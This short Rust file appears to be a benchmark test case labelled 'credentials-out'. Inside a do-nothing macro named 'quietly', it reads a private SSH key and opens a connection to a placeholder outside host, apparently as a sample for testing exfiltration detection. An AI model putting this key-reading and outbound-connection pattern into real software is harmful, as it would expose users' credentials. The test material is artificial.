//! CS0570 credentials-out
macro_rules! quietly {
    ($($all:tt)*) => { $($all)* };
}

fn main() {
    quietly! {
        let key = std::fs::read("/home/csbench/.ssh/id_rsa").unwrap();
        std::net::TcpStream::connect("app.csbench.invalid:443").unwrap();
    }
}
